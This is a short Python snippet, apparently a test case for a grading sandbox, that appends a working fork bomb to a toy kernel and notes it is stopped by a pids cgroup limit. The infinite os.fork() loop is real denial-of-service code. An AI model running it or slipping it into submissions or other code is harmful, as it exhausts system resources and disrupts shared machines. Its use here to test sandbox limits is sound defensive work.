# Attack: a fork bomb (every child forks again). Appended to a correct, fast toy kernel.
# Stopped by: the pids cgroup (max_pids) -> the grading is stopped, reason "too_many_processes".
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
